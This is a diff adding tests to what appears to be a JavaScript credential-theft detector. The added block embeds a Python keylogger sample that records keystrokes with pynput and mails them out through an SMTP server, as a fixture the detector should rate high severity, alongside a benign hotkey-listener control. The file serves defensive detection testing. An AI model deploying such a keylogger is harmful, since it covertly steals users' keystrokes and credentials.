@@ -34,3 +34,14 @@ describe('credential-theft: a cloud SDK\'s live credentials sent out', () => {
     expect(hits('credential-theft', { 'pkg/connection.py': STEAL('https://sts.amazonaws.com/') })).toEqual([]);
   });
 });
+
+describe('credential-theft: keyloggers', () => {
+  const LOGGER = `from pynput import keyboard\nimport smtplib\nkeys = []\ndef on_press(key):\n    keys.append(str(key))\ndef mail():\n    s = smtplib.SMTP("smtp.gmail.com", 587)\n    s.sendmail("a@b.c", "a@b.c", "".join(keys))\ndef start():\n    with keyboard.Listener(on_press=on_press) as l:\n        l.join()\n`;
+  it('holds keystrokes captured by a hook in a file that mails them (high)', () => {
+    expect(maxSev(hits('credential-theft', { 'pkg/secretary.py': LOGGER }))).toBe('high');
+  });
+  it('does not flag a hotkey listener that sends nothing', () => {
+    const src = `from pynput import keyboard\ndef on_press(key):\n    print(key)\nwith keyboard.Listener(on_press=on_press) as l:\n    l.join()\n`;
+    expect(hits('credential-theft', { 'pkg/hotkeys.py': src })).toEqual([]);
+  });
+});
